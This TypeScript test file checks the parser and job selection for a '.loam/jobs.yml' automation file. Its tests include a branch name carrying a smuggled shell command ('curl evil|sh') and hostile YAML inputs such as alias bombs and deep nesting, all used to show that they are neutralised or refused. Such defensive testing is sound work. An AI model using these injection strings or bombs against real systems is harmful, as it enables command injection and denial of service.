// biome-ignore-all lint/suspicious/noTemplateCurlyInString: files of jobs have it.
/** `.loam/jobs.yml`: what it may say, what is wrong with it, and which jobs a trigger starts. */
import { expect, test } from 'vitest';
import { readJobFile as readFile } from '../../src/automation/file.ts';
import {
  planJobs,
  selectJobs,
  selectUnsuccessful,
  type Trigger,
} from '../../src/automation/job-selection.ts';
import { CONTRACT } from '../../src/base/hardware.ts';

const readJobFile = (text: string) => readFile(text, CONTRACT);

const EXAMPLE = `
defaults: { cpu: 4, memory_gb: 8 }
jobs:
  test:
    on:
      push: { branches: [main, "feature/**", "!feature/old"], paths: ["src/**", "**/*.sh", "!**/*.md"] }
      tag: ["v*"]
      schedule: [{ cron: "0 3 * * 1-5", timezone: Europe/Berlin }]
      manual: true
    command: npm ci && npm test
    image: node:24
    output_path: coverage
    shell: none
  train:
    needs: [test]
    matrix: { seed: [1, 2, 3], lr: ["0.1", "0.01"] }
    max_parallel: 2
    command: python train.py
    gpu: A100-80GB
    labels: { branch: "\${branch}" }
    concurrency: { group: "train-\${branch}", on_conflict: queue }
    max_cost: "5.00"
    idle_timeout_minutes: 15
    hold_minutes: 30
    shell: allowed
`;

function valid(text: string) {
  const { file, problems } = readJobFile(text);
  expect(problems).toEqual([]);
  if (!file) throw new Error('the file was not read');
  return file;
}

/** The problems, as the command prints them. */
const problemsOf = (text: string) =>
  readJobFile(text).problems.map(({ line, column, message }) => `${line}:${column} ${message}`);

test('a file is read, with defaults and combinations', () => {
  const file = valid(EXAMPLE);
  const jobs = planJobs(file, ['test', 'train'], 'feature/a";curl evil|sh');
  expect(jobs.map(({ key, number }) => [key, number])).toEqual([
    ['test', null],
    ...[1, 2, 3, 4, 5, 6].map((number) => ['train', number]),
  ]);
  const [first, second, third] = jobs;
  expect(first?.settings).toMatchObject({ cpu: 4, memoryGb: 8, gpu: 'none', image: 'node:24' });
  expect(second?.settings.env).toEqual([
    { name: 'SEED', value: '1' },
    { name: 'LR', value: '0.1' },
  ]);
  expect(third?.combination).toEqual({ seed: '1', lr: '0.01' });
  expect(third?.needs).toEqual([{ job: 0, when: 'succeeded' }]);
  expect(third?.maxParallel).toBe(2);
  expect(third?.settings).toMatchObject({ holdOnFailureMinutes: 30, shellAccess: 'allowed' });
  expect(first?.settings.shellAccess).toBe('none');
  // The name of a branch is data: it is in no command.
  expect(jobs.map(({ settings }) => settings.command).join()).not.toContain('curl');
  expect(third?.settings.concurrency).toEqual({
    group: 'train-feature/a";curl evil|sh',
    onConflict: 'queue',
  });
  expect(third?.settings.labels).toEqual([{ key: 'branch', value: 'feature-a--curl-evil-sh' }]);
});

test('crafted filters match instead of taking minutes, and ordinary ones of a large push are exact', () => {
  const fileOf = (patternsOf: (job: number) => string[]) =>
    valid(
      JSON.stringify({
        jobs: Object.fromEntries(
          Array.from({ length: 20 }, (_, i) => [
            `j${i}`,
            { on: { push: { paths: patternsOf(i) } }, command: 'echo' },
          ]),
        ),
      }),
    );
  const names = Array.from({ length: 20 }, (_, i) => `j${i}`);
  const push = { kind: 'push', branch: 'main' } as const;
  const crafted = fileOf((job) => Array.from({ length: 48 }, (_, i) => `**a*a*a*${job}*${i}z*?`));
  const deep = Array.from({ length: 1_000 }, (_, i) => `${i}${'a'.repeat(480)}`);
  expect(selectJobs(crafted, { ...push, paths: deep })).toEqual(names);
  const ordinary = fileOf((job) => [`services/s${job}/**`, '!**/*.md', `**/s${job}.lock`]);
  const paths = Array.from({ length: 10_000 }, (_, i) => `services/s3/src/module/file-${i}.ts`);
  expect(selectJobs(ordinary, { ...push, paths })).toEqual(['j3']);
  const others = paths.map((path) => path.replace('s3', 'other'));
  expect(selectJobs(ordinary, { ...push, paths: [...others, 'libs/s7.lock'] })).toEqual(['j7']);
});

test('a trigger selects the jobs that it matches, and what belongs to them', () => {
  const file = valid(EXAMPLE);
  const select = (trigger: Trigger) => selectJobs(file, trigger);
  const push = (branch: string, ...paths: string[]) => select({ kind: 'push', branch, paths });
  const both = ['test', 'train'];
  expect(push('main', 'src/a.ts')).toEqual(both);
  expect(push('main', 'run.sh')).toEqual(both);
  expect(push('main', 'README.md')).toEqual([]);
  expect(push('main', 'src/README.md')).toEqual([]);
  expect(push('main', 'src/README.md', 'src/deep/er/a.ts')).toEqual(both);
  expect(push('feature/x/y', 'src/a.ts')).toEqual(both);
  expect(push('feature/old', 'src/a.ts')).toEqual([]);
  expect(push('other', 'src/a.ts')).toEqual([]);
  expect(select({ kind: 'push', branch: 'main', paths: null })).toEqual(both);
  expect(select({ kind: 'tag', tag: 'v1.0' })).toEqual(both);
  expect(select({ kind: 'tag', tag: '1.0' })).toEqual([]);
  expect(select({ kind: 'manual', job: null })).toEqual(both);
  expect(select({ kind: 'manual', job: 'train' })).toEqual([]);
  expect(select({ kind: 'schedule', jobs: ['test'] })).toEqual(both);

  const diamond = valid(`
jobs:
  a: { on: { push: true }, command: a }
  b: { needs: [a], command: b }
  other: { on: { tag: ["v*"] }, command: o }
  c: { needs: [a, other], command: c }
  d: { on: { manual: true }, needs: [b], command: d }
`);
  expect(selectJobs(diamond, { kind: 'push', branch: 'x', paths: [] })).toEqual(['a', 'b']);
  const backwards = valid('jobs: {b: {needs: [a], command: b}, a: {on: {push: true}, command: a}}');
  expect(planJobs(backwards, ['b', 'a'], 'main').map(({ key, needs }) => [key, needs])).toEqual([
    ['a', []],
    ['b', [{ job: 0, when: 'succeeded' }]],
  ]);
  const short = valid(
    'jobs: {a: {on: {push: true}, command: a}, b: {needs: [{job: a}], command: b}}',
  );
  expect(short.jobs.get('b')?.needs).toEqual([{ job: 'a', when: 'succeeded' }]);
  // A job brings those that it needs.
  expect(selectJobs(diamond, { kind: 'manual', job: 'd' })).toEqual(['a', 'b', 'd']);
});

test('jobs that were not needed are not run again', () => {
  const file = valid(`
jobs:
  d: { needs: [{ job: c, when: finished }], command: d }
  lint: { on: { push: true }, command: a }
  test: { on: { push: true }, needs: [lint], command: a }
  deploy: { needs: [test], command: a }
  alarm: { needs: [{ job: lint, when: failed }], command: a }
  c: { needs: [alarm], command: c }
`);
  const all = [...file.jobs.keys()];
  const again = (...succeeded: string[]) => selectUnsuccessful(file, all, new Set(succeeded));
  expect(again('lint')).toEqual(['d', 'test', 'deploy']);
  expect(again()).toEqual(all);
  expect(again('lint', 'test', 'deploy', 'd')).toEqual([]);
  // What an earlier run had counts as met.
  expect(selectUnsuccessful(file, ['deploy', 'alarm'], new Set())).toEqual(['deploy', 'alarm']);
});

test('inputs of a run are checked where they are declared', () => {
  const declare = (inputs: string, more = '') =>
    problemsOf(`jobs:\n  a: {on: {manual: {inputs: ${inputs}}}, command: x${more}}\n`).map(
      (problem) => problem.replace(/^2:\d+ (jobs\.a\.on\.manual\.inputs\.?)?/, ''),
    );
  expect(
    declare('{n: {type: integer, default: 10, min: 1}, mode: {type: choice, options: [a, 2]}}'),
  ).toEqual([]);
  expect(declare('{}')).toEqual([]);
  expect(declare('{n: {type: int}}')).toEqual([
    'n.type: must be one of string, integer, number, boolean, choice',
  ]);
  expect(declare('{n: {typ: string}}')).toEqual(['Unknown key "typ" in jobs.a.on.manual.inputs.n']);
  expect(declare('{2n: {}}')).toEqual([
    '2n: must be at most 60 letters, digits and _, and not begin with a digit',
  ]);
  expect(declare('{c: {type: choice}}')).toEqual(['c.options: is required for a choice']);
  expect(declare('{c: {type: choice, options: [a], default: b}}')).toEqual([
    'c.default: must be one of a',
  ]);
  expect(declare('{n: {type: integer, default: 1.5}}')).toEqual([
    'n.default: must be a whole number',
  ]);
  expect(declare('{n: {type: number, default: "1e999"}}')).toEqual(['n.default: must be a number']);
  expect(declare('{n: {min: 1}}')).toEqual(['n.min: can only be given for a number']);
  expect(declare('{b: {type: boolean, default: yes}}')).toEqual([
    'b.default: must be true or false',
  ]);
  expect(declare('{N: {}, n: {}}')).toEqual(['N is given twice']);
  expect(declare('{n: {}}', ', env: {N: 1}')).toEqual(['N is also in env']);
  expect(declare('{n: {}}', ', matrix: {n: [1]}')).toEqual(['N is also in matrix']);
  expect(
    problemsOf(
      'jobs:\n  a: {on: {manual: {inputs: {n: {}}}}, command: x}\n  b: {on: {manual: {inputs: {n: {default: 1}}}}, command: x}',
    ),
  ).toEqual(['3:30 b and a declare n differently']);
  expect(problemsOf('jobs: {a: {on: {push: {branch: [main]}}, command: x}}')).toEqual([
    '1:24 Unknown key "branch" in jobs.a.on.push',
  ]);
});

test('problems have a line and a column', () => {
  const jobs = (...lines: string[]) =>
    problemsOf(`jobs:\n${lines.map((l) => `  ${l}\n`).join('')}`);
  expect(problemsOf('')).toEqual(['1:1 jobs: is required']);
  expect(problemsOf('jobs: {}')).toEqual(['1:1 jobs: must have a job']);
  expect(problemsOf('jbs: 1')).toContain('1:1 Unknown key "jbs"');
  expect(jobs('a:', '  on: { push: true, foo: 1 }', '  comand: x')).toEqual([
    '2:3 jobs.a.command: is required',
    '3:23 Unknown key "foo" in jobs.a.on',
    '4:5 Unknown key "comand" in jobs.a',
  ]);
  expect(
    jobs(
      'a: {on: {manual: true}, command: x, cpu: 3}',
      'b: {on: {manual: true}, command: x, gpu: H100}',
    ),
  ).toEqual([
    '2:44 a: cpu must be one of 2, 4, 8, 16, 32, 64, 96',
    '3:44 b: gpu must be one of A100-40GB, A100-80GB, H100-80GB, L4, T4, none',
  ]);
  expect(
    jobs(
      'a: {on: push, command: x, needs: b}',
      'b: {on: {tag: []}, command: 1, retries: 1.5, max_parallel: 0}',
      'c: {on: {manual: "yes"}, command: x, needs: [{job: a, when: later}]}',
    ),
  ).toEqual([
    '2:11 jobs.a.on: must be a mapping with keys',
    '2:36 jobs.a.needs: must be a list, such as [a, b]',
    '3:12 jobs.b.on.tag: must not be empty',
    '3:31 jobs.b.command: must be text',
    '3:43 jobs.b.retries: must be a whole number',
    '3:62 jobs.b.max_parallel: must be at least 1',
    '4:20 jobs.c.on.manual: must be true, false, or an object with inputs',
    '4:63 jobs.c.needs[0].when: must be one of succeeded, failed, finished',
  ]);
  expect(
    jobs(
      'a: {needs: [b], command: x}',
      'b: {needs: [{job: c, when: failed}], command: x}',
      'c: {needs: [a], command: x}',
    ),
  ).toEqual(['2:7 The jobs need each other: a → b → c → a']);
  expect(jobs('a: {needs: [x, a], command: x}')).toEqual([
    '2:15 a needs the unknown job "x"',
    '2:18 a cannot need itself',
  ]);
  expect(
    jobs(`a: {on: {manual: true}, command: x, concurrency: {group: "d-\${{ github.ref }}"}}`),
  ).toEqual([`2:60 a: only \${branch} stands for a value (got "\${{ github.ref }}")`]);
  expect(jobs('a: {command: x}')).toEqual(['2:3 a: give `on` or `needs`, or the job never runs']);
  expect(jobs('a: {on: {manual: true}, command: " "}')).toEqual([
    '2:36 a: command must not be empty',
  ]);
  expect(jobs('a: {on: {manual: true}, command: x, gpu_count: 2}')).toEqual([
    '2:50 a: gpu_count must be 1 when gpu is "none" (got 2)',
  ]);
  expect(
    jobs('a: {on: {manual: true}, command: x}', 'a: {on: {manual: true}, command: x}'),
  ).toEqual(['3:3 The key "a" is given twice']);
  expect(
    jobs('a: {on: {manual: true}, matrix: {x: [1, 2], X: [1]}, env: {X: 1}, command: x}').length,
  ).toBe(3);
});

test('schedules run at most every five minutes', () => {
  const schedule = (cron: string, timezone = 'UTC') =>
    problemsOf(
      `jobs:\n  a:\n    command: x\n    on: {schedule: [{cron: "${cron}", timezone: "${timezone}"}]}`,
    );
  for (const cron of ['0 3 * * 1-5', '*/5 * * * *', '0 0 29 2 *', '@daily'])
    expect(schedule(cron)).toEqual([]);
  for (const cron of ['* * * * *', '*/4 * * * *', '0,1 3 * * *', '*/7 * * * *'])
    expect(schedule(cron)[0], cron).toContain('must not run more often');
  expect(schedule('* * * * * *')[0]).toContain('five fields');
  expect(schedule('0 0 31 2 *')[0]).toContain('never runs');
  expect(schedule('0 0 29 2 +1#5')[0]).toContain('must not have "+"');
  expect(schedule('0 3 * * *', 'Mars/Olympus')[0]).toContain('timezone must be');
});

test('a text is read once', () => {
  expect(readJobFile(EXAMPLE)).toBe(readJobFile(EXAMPLE));
});

test('hostile files are refused quickly', () => {
  const laughs = Array.from(
    { length: 20 },
    (_, i) =>
      `a${i}: &a${i} [${Array(9)
        .fill(i ? `*a${i - 1}` : 'x')
        .join()}]`,
  ).join('\n');
  expect(problemsOf(laughs)[0]).toMatch(/Aliases are not supported/);
  for (const deep of ['[', '{a: ', '- ', '? ', ': '])
    expect(problemsOf(deep.repeat(20_000))).toEqual([expect.stringMatching(/nested deeper than/)]);
  for (const many of ['- a: b\n', '- >\n', '# c\n'])
    expect(problemsOf(many.repeat(15_000))).toEqual([expect.stringMatching(/at most 25000 words/)]);
  for (const wrong of [']', '|1\n', '*a ]'])
    expect(problemsOf(wrong.repeat(25_000)).length).toBeLessThanOrEqual(51);
  for (const wrong of [`"${'\\q'.repeat(60_000)}"`, '- "\\xZZ"\n'.repeat(9_000)])
    expect(problemsOf(wrong)).toEqual([expect.stringMatching(/more than 50 escapes/)]);
  expect(problemsOf(`"${'\\\\q\\x41\\u00e9\\U0001F600'.repeat(100)}"`)).toEqual([
    expect.stringMatching(/mapping/),
  ]);
  const variables = Array.from({ length: 900 }, (_, i) => `E${i}: 1`).join();
  const few = Array.from({ length: 100 }, () => 'on: {manual: true}, env: {A: 1}');
  expect(
    problemsOf(
      `defaults: {env: {${variables}}}\njobs:\n${few.map((line, i) => `  j${i}: {command: x, ${line}}`).join('\n')}`,
    ),
  ).toEqual([expect.stringMatching(/more than 20000 variables/)]);
  const matrix = `{a: [${'x'.repeat(60_000)}], b: [${Array.from({ length: 256 }, (_, i) => i)}]}`;
  const withImage = (image: string) =>
    problemsOf(
      `jobs:\n  j: {on: {manual: true}, command: x, image: "${image}", matrix: ${matrix}}`,
    );
  expect(withImage('${a}'.repeat(128))).toEqual([
    expect.stringMatching(/image must not be longer/),
  ]);
  expect(withImage('${b}'.repeat(10_000))).toEqual([
    expect.stringMatching(/image: must have at most 512 characters/),
  ]);
  // One problem, although each of the thousand times would take long to check.
  const never = (job: number) =>
    Array.from(
      { length: 10 },
      (_, i) => `{cron: "${job % 60} ${i + (job < 60 ? 0 : 10)} 31 2 *"}`,
    ).join();
  const schedules = Array.from({ length: 100 }, (_, i) => `on: {schedule: [${never(i)}]}`);
  const jobsWith = (lines: string[]) =>
    lines.map((line, i) => `  j${i}: {command: x, ${line}}`).join('\n');
  expect(problemsOf(`jobs:\n${jobsWith(schedules)}`)).toEqual([
    expect.stringMatching(/never runs/),
  ]);
  const daily = schedules.slice(0, 3).map((line) => line.replaceAll('31 2', '* *'));
  expect(problemsOf(`jobs:\n${jobsWith(daily)}`)).toEqual([
    expect.stringMatching(/one of more than 20 times/),
  ]);
  expect(
    problemsOf(
      `jobs: {a: {on: {manual: true}, command: ${'x'.repeat(90_000)}, matrix: {x: [${Array.from({ length: 200 }, (_, i) => i)}]}}}`,
    ),
  ).toEqual([expect.stringMatching(/more than 8 MiB/)]);
  expect(problemsOf('a'.repeat(200_000))).toEqual([expect.stringMatching(/larger than 128 KiB/)]);
  expect(problemsOf('a: !!js/function "x"').length).toBeGreaterThan(0);
  expect(problemsOf('jobs:\n---\njobs:')).toEqual(['2:1 The file must have one document']);
  const keys = Array.from({ length: 10_000 }, (_, i) => `k${i}:`).join('\n');
  expect(problemsOf(keys).length).toBeLessThanOrEqual(51);
  const many = (count: number) => `[${Array.from({ length: count }, (_, i) => i)}]`;
  expect(
    problemsOf(
      `jobs: {a: {on: {manual: true}, command: x, matrix: {x: ${many(17)}, y: ${many(17)}}}}`,
    ),
  ).toEqual([expect.stringMatching(/at most 256 combinations/)]);
  const jobs = Array.from(
    { length: 5 },
    (_, i) => `  j${i}: {on: {manual: true}, command: x, matrix: {x: ${many(250)}}}`,
  );
  expect(problemsOf(`jobs:\n${jobs.join('\n')}`)).toEqual([
    expect.stringMatching(/1250 jobs .* at most 1000/),
  ]);
  // PostgreSQL could not store what these keys and values have.
  const odd = readJobFile(
    'jobs: {"a\\0": 1, "\\ud800": 1, b: {on: {manual: true}, command: "\\0"}}',
  );
  expect(odd.problems.map(({ message }) => message).join()).not.toMatch(/[\p{Cc}\p{Cs}]/u);
  expect(readJobFile('jobs: {__proto__: {command: x}, toString: {command: x}}').file).toBeNull();
});

test('include and exclude change the combinations of a matrix as in GitHub Actions', () => {
  const combinations = (matrix: string) => {
    const { file, problems } = readJobFile(
      `jobs: {a: {on: {manual: true}, command: x, matrix: ${matrix}}}`,
    );
    expect(problems).toEqual([]);
    return file && planJobs(file, ['a'], 'main').map(({ combination }) => combination);
  };
  // The example of the documentation of GitHub.
  expect(
    combinations(`{fruit: [apple, pear], animal: [cat, dog], include: [{color: green},
      {color: pink, animal: cat}, {fruit: apple, shape: circle}, {fruit: banana}, {fruit: banana, animal: cat}]}`),
  ).toEqual([
    { fruit: 'apple', animal: 'cat', color: 'pink', shape: 'circle' },
    { fruit: 'apple', animal: 'dog', color: 'green', shape: 'circle' },
    { fruit: 'pear', animal: 'cat', color: 'pink' },
    { fruit: 'pear', animal: 'dog', color: 'green' },
    { fruit: 'banana' },
    { fruit: 'banana', animal: 'cat' },
  ]);
  expect(combinations('{x: [1, 2], y: [1, 2], exclude: [{x: 1, y: 2}, {y: 1}]}')).toEqual([
    { x: '2', y: '2' },
  ]);
  expect(combinations('{include: [{x: 1}, {y: 2}]}')).toEqual([{ x: '1' }, { y: '2' }]);
  const problem = (matrix: string) =>
    readJobFile(`jobs: {a: {on: {manual: true}, command: x, matrix: ${matrix}}}`).problems[0]
      ?.message;
  expect(problem('{x: [1], exclude: [{x: 1}]}')).toContain('leaves no combination');
  expect(problem('{x: [1], exclude: [{z: 1}]}')).toContain('is no key of the matrix');
  expect(problem('{x: [1], include: [{"a-b": 1}]}')).toContain('letters, digits and _');
  expect(problem('{x: [1], include: [{X: 1}]}')).toContain('X is given twice');
  expect(problem('{}')).toContain('must have a key');
});

test('values of a matrix stand in the image', () => {
  const read = (fields: string) =>
    readJobFile(`jobs: {a: {on: {manual: true}, command: x, ${fields}}}`);
  const { file } = read(
    'image: "python:${python}-${os}", matrix: {python: ["3.12", "3.13"], os: [slim]}',
  );
  expect(file && planJobs(file, ['a'], 'main').map(({ settings }) => settings.image)).toEqual([
    'python:3.12-slim',
    'python:3.13-slim',
  ]);
  const problem = (fields: string) => read(fields).problems[0]?.message;
  expect(problem('image: "python:${version}", matrix: {python: [3]}')).toContain(
    'a: image "${version}" is not a key in all',
  );
  expect(problem('image: "python:${python}"')).toContain('is not a key in all');
  expect(problem('image: "python:${x}", matrix: {x: [1], include: [{y: 2}, {z: 1, x: 2}]}')).toBe(
    undefined,
  );
  expect(problem('image: "python:${x}", matrix: {x: [1, "A B"]}')).toContain('a: image must be');
});

test('volumes are checked like those of createJob', () => {
  const job = (volumes: string) =>
    `jobs: { a: { on: { push: true }, command: x, volumes: ${volumes} } }`;
  const file = valid(
    job('[{ name: imagenet, to: /data, read_only: true }, { name: out, to: out }]'),
  );
  expect(planJobs(file, ['a'], 'main')[0]?.settings.volumes).toEqual([
    { name: 'imagenet', to: '/data', readOnly: true },
    { name: 'out', to: 'out', readOnly: undefined },
  ]);
  expect(problemsOf(job('[{ name: imagenet, to: /etc }]'))).toEqual([
    expect.stringContaining('a: volumes[0].to must not be in /etc'),
  ]);
  expect(problemsOf(job('[{ name: imagenet }]'))[0]).toContain('jobs.a.volumes[0].to');
});
